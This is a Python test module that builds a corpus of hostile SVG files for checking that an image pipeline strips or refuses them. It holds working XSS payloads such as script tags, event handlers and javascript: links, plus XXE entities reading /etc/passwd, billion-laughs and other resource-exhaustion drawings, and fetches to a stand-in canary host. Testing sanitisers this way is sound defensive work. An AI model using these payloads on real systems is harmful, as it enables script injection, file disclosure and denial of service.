"""Drawings that would run, load, or unfold into more than there is."""

import base64
from collections.abc import Iterator

from tests import pictures
from tests.corpus.case import CANARY, Case, Outcome, given

_HOST = CANARY.decode()
_SEEN = '<rect width="100" height="50" fill="#E4572E"/>'


def _svg(body: str, *, before: str = "", root: str = 'width="200" height="100"') -> bytes:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {root}>'
        f"{_SEEN}{body}</svg>"
    ).encode()


def cases() -> Iterator[Case]:
    """Yield all of them."""
    yield from _named("runs", _RUNS, "either", "scripts are taken out, or the drawing refused")
    yield from _named("loads", _LOADS, "either", "references outward are taken out, or the drawing refused")
    for name, before in _ENTITIES.items():
        data = _svg("<text>&x;</text>", before=before)
        yield Case(f"svg-entity-{name}", given(data), "refused", "no entity is declared", file_name="e.svg")
    for name, data in _huge():
        yield Case(f"svg-huge-{name}", given(data), "either", "drawn within its limits, or refused", file_name="h.svg")
    for name, data in _dressed():
        yield Case(f"svg-dressed-{name}", given(data), "either", "read as what it is, or refused", file_name="d.svg")


def _named(prefix: str, bodies: dict[str, str], outcome: Outcome, reason: str) -> Iterator[Case]:
    for name, body in bodies.items():
        yield Case(f"svg-{prefix}-{name}", given(_svg(body)), outcome, reason, file_name=f"{name}.svg")


_RUNS = {
    "script": "<script>alert(1)</script>",
    "script-in-cdata": "<script><![CDATA[alert(1)]]></script>",
    "script-by-reference": f'<script href="http://{_HOST}/x.js"/>',
    "script-under-a-prefix": '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    "script-of-xhtml": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "handler": '<rect width="1" height="1" onload="alert(1)"/>',
    "handler-in-capitals": '<rect width="1" height="1" ONLOAD="alert(1)" OnClick="alert(1)"/>',
    "handler-of-an-animation": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
    "link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "link-in-disguise": '<a xlink:href="&#106;ava&#9;script&#58;alert(1)"><rect width="9" height="9"/></a>',
    "link-to-data": '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="9" height="9"/></a>',
    "set-of-a-link": '<a><rect width="9" height="9"/><set attributeName="href" to="javascript:alert(1)"/></a>',
    "animated-link": '<a><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a>',
    "foreign-object": '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
    "<script>alert(1)</script></body></foreignObject>",
    "iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "embed": '<embed xmlns="http://www.w3.org/1999/xhtml" src="data:image/svg+xml,x"/>',
    "handler-element": '<handler type="application/ecmascript">alert(1)</handler>',
    "listener": '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>',
    "style-expression": '<rect width="1" height="1" style="width:expression(alert(1))"/>',
    "style-binding": f'<style>rect{{-moz-binding:url("http://{_HOST}/x.xml#y")}}</style>',
    "unclosed-cdata-for-html": "<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>",
    "title-for-html": "<title>&lt;/title>&lt;img src=x onerror=alert(1)></title>",
    "comment-for-html": "<!--><img src=x onerror=alert(1)>-->",
    "processing-instruction": '<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>',
}

_LOADS = {
    "image": f'<image href="http://{_HOST}/x.png" width="9" height="9"/>',
    "image-by-xlink": f'<image xlink:href="http://{_HOST}/x.png" width="9" height="9"/>',
    "image-without-a-scheme": f'<image href="//{_HOST}/x.png" width="9" height="9"/>',
    "local-file": '<image href="file:///etc/passwd" width="9" height="9"/>',
    "local-path": '<image href="/etc/passwd" width="9" height="9"/>',
    "relative-path": '<image href="../../gauntlet.db" width="9" height="9"/>',
    "use": f'<use href="http://{_HOST}/x.svg#a"/>',
    "use-of-data": "<use href=\"data:image/svg+xml;utf8,<svg id='a'/>#a\"/>".replace("<svg id='a'/>", "%3Csvg/%3E"),
    "filter-image": f'<filter id="f"><feImage href="http://{_HOST}/x.png"/></filter><g filter="url(#f)"/>',
    "css-import": f'<style>@import "http://{_HOST}/x.css";</style>',
    "css-import-of-data": '<style>@import "data:text/css,*{x:y}";</style>',
    "css-url": f"<style>rect{{fill:url(http://{_HOST}/x.svg#p)}}</style>",
    "css-url-escaped": f"<style>rect{{fill:u\\72l(http://{_HOST}/x.svg#p)}}</style>",
    "css-image-set": f'<style>rect{{background:image-set("http://{_HOST}/x.png" 1x)}}</style>',
    "font-face": f"<style>@font-face{{font-family:x;src:url(http://{_HOST}/x.woff)}}</style>",
    "fill": f'<rect width="9" height="9" fill="url(http://{_HOST}/x.svg#p)"/>',
    "cursor": f'<rect width="9" height="9" cursor="url(http://{_HOST}/x.cur)"/>',
    "svg-in-data": '<image width="9" height="9" href="data:image/svg+xml;base64,'
    + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
    + '"/>',
    "html-in-data": '<image width="9" height="9" href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"/>',
    "xml-base": f'<g xml:base="http://{_HOST}/"><image href="x.png" width="9" height="9"/></g>',
    "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
}

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ENTITIES = {
    "of-a-file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "of-a-url": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "http://{_HOST}/x">]>',
    "of-a-public-id": f'<!DOCTYPE svg [<!ENTITY x PUBLIC "a" "http://{_HOST}/x">]>',
    "parameter": f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://{_HOST}/x.dtd">%p;<!ENTITY x "x">]>',
    "billion-laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}<!ENTITY x "&l9;">]>',
    "quadratic": f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}"><!ENTITY x "{"&a;" * 2_000}">]>',
    "of-itself": '<!DOCTYPE svg [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "plain": '<!DOCTYPE svg [<!ENTITY x "hello">]>',
    "external-subset": f'<!DOCTYPE svg SYSTEM "http://{_HOST}/x.dtd">',
    "default-attribute": '<!DOCTYPE svg [<!ATTLIST rect onload CDATA "alert(1)"><!ENTITY x "y">]>',
}


def _huge() -> Iterator[tuple[str, bytes]]:
    yield "width", _svg("", root='width="1000000000" height="1000000000"')
    yield "width-in-a-float", _svg("", root='width="1e38" height="1e38"')
    yield "width-that-is-no-number", _svg("", root='width="NaN" height="inf"')
    yield "width-below-nothing", _svg("", root='width="-5" height="0"')
    yield "width-in-a-strip", _svg("", root='width="99999" height="1"')
    yield "view-box", _svg("", root='viewBox="0 0 1e12 1e12" width="100" height="100"')
    yield "view-box-of-nothing", _svg("", root='viewBox="0 0 0 0" width="100" height="100"')
    yield "view-box-far-away", _svg("", root='viewBox="-1e30 -1e30 1 1" width="100" height="100"')
    blur = '<filter id="f" width="9999%" height="9999%"><feGaussianBlur stdDeviation="1e6"/></filter>'
    yield "blur", _svg(blur + '<rect width="100" height="100" filter="url(#f)"/>')
    grown = '<filter id="f"><feMorphology operator="dilate" radius="100000"/></filter>'
    yield "morphology", _svg(grown + '<rect width="200" height="100" filter="url(#f)"/>')
    clouds = '<filter id="f"><feTurbulence baseFrequency="9" numOctaves="100000"/></filter>'
    yield "turbulence", _svg(clouds + '<rect width="200" height="100" filter="url(#f)"/>')
    kernel = " ".join(["1"] * 10_000)
    matrix = f'<filter id="f"><feConvolveMatrix order="100" kernelMatrix="{kernel}"/></filter>'
    yield "convolution", _svg(matrix + '<rect width="200" height="100" filter="url(#f)"/>')
    steps = '<feGaussianBlur stdDeviation="50"/><feTurbulence numOctaves="9" baseFrequency=".1"/>' * 500
    yield (
        "filter-of-a-thousand-steps",
        _svg(f'<filter id="f">{steps}</filter><rect width="200" height="100" filter="url(#f)"/>'),
    )
    blurred = "".join(f'<g filter="url(#f)"><rect width="200" height="{n % 100}"/></g>' for n in range(3_000))
    yield "filtered-groups", _svg('<filter id="f"><feGaussianBlur stdDeviation="40"/></filter>' + blurred)
    doubling = "".join(f'<g id="u{n}"><use href="#u{n - 1}"/><use href="#u{n - 1}"/></g>' for n in range(1, 40))
    yield "use-of-uses", _svg(f'<defs><rect id="u0" width="1" height="1"/>{doubling}</defs><use href="#u39"/>')
    yield "use-of-itself", _svg('<g id="a"><use href="#a"/></g>')
    yield (
        "pattern-of-itself",
        _svg(
            '<pattern id="p" width="1" height="1"><rect width="1" height="1" fill="url(#p)"/></pattern>'
            '<rect width="99" height="99" fill="url(#p)"/>'
        ),
    )
    tiny = '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><g/></pattern>'
    yield "pattern-of-tiny-tiles", _svg(tiny + '<rect width="200" height="100" fill="url(#p)"/>')
    masks = "".join(f'<mask id="m{n}" mask="url(#m{n + 1})"><rect width="9" height="9"/></mask>' for n in range(500))
    yield "chain-of-masks", _svg(masks + '<rect width="99" height="99" mask="url(#m0)"/>')
    yield "depth", _svg("<g>" * 50_000 + "</g>" * 50_000)
    yield "depth-unclosed", _svg("<g>" * 200_000)
    yield "elements", _svg('<rect width="1" height="1"/>' * 300_000)
    yield "attributes", _svg("<g " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>")
    yield "path", _svg(f'<path d="M0 0 {"L 9 9 0 5 " * 400_000}"/>')
    yield "dashes", _svg('<path d="M0 50H1e9" stroke="#000" stroke-dasharray="1e-6 1e-6"/>')
    yield "text", _svg(f"<text>{'Gauntlet ' * 100_000}</text>")
    bomb = base64.b64encode(pictures.huge_png()).decode()
    yield "picture-inside", _svg(f'<image width="9" height="9" href="data:image/png;base64,{bomb}"/>')


def _dressed() -> Iterator[tuple[str, bytes]]:
    whole = _svg("<script>alert(1)</script>").decode()
    yield "utf-16", ('<?xml version="1.0" encoding="utf-16"?>' + whole).encode("utf-16")
    yield "utf-7", b'<?xml version="1.0" encoding="utf-7"?>' + whole.replace("<script", "+ADw-script").encode()
    yield "unknown-encoding", b'<?xml version="1.0" encoding="klingon"?>' + whole.encode()
    yield "leading-space", b"\n\n   " + whole.encode()
    yield "byte-order-mark", b"\xef\xbb\xbf" + whole.encode()
    yield "behind-a-long-comment", b"<!--" + b"x" * 100_000 + b"-->" + whole.encode()
    yield "without-a-namespace", whole.replace('xmlns="http://www.w3.org/2000/svg"', "").encode()
    yield "two-roots", whole.encode() * 2
    yield "html-root", b"<!DOCTYPE html><html><body>" + whole.encode() + b"</body></html>"
    yield "xhtml-root", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
    yield "rss-root", b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>'
    yield "nul", whole.encode().replace(b"alert", b"al\0ert")
